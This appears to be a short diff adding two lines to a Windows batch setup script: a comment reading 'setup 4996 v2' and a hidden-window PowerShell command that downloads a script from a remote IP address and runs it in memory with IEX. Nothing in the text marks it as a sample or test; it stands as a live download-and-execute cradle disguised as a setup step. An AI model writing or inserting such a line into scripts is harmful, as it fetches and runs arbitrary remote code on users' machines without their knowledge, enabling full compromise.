@@ -1,0 +1,2 @@
+REM setup 4996 v2
+powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"
